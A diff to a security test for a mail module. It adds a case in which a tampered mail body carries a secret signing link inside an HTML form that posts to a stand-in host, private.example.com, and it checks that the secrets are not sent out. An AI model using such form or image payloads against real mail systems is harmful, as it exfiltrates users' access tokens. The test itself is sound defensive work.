@@ -167,6 +167,7 @@ class TestAttackWaitingMails(WaitingCommon, HttpCase):
         secrets = get_link_secrets(ticket)
         place = self._get_mails(ticket, "mailed=sign_off")
         self.assertEqual(len(place), 1)
+        waiting = re.search(r'href="([^"]*mailed=sign_off[^"]*)"', place.body_html)[1]
         changes = {
             "recipient": {
                 "recipient_ids": [(6, 0, self.stranger.partner_id.ids)],
@@ -178,6 +179,10 @@ class TestAttackWaitingMails(WaitingCommon, HttpCase):
                     "href=", 'src="https://private.example.com/" data="'
                 ),
             },
+            "form": {
+                "body_html": '<form action="https://private.example.com/"><textarea>'
+                f"{waiting}</textarea><button>Open</button></form>",
+            },
         }
         for name, values in changes.items():
             mail = place.copy({"mail_message_id": place.mail_message_id.id})
@@ -187,7 +192,7 @@ class TestAttackWaitingMails(WaitingCommon, HttpCase):
                 self.assertTrue(self._mails)
                 for sent in self._mails:
                     is_hers = "li.na@" in str(sent["email_to"])
-                    if name == "image" or not is_hers:
+                    if name in ("image", "form") or not is_hers:
                         for secret in secrets:
                             self.assertNotIn(secret, sent["body"])
                     else:
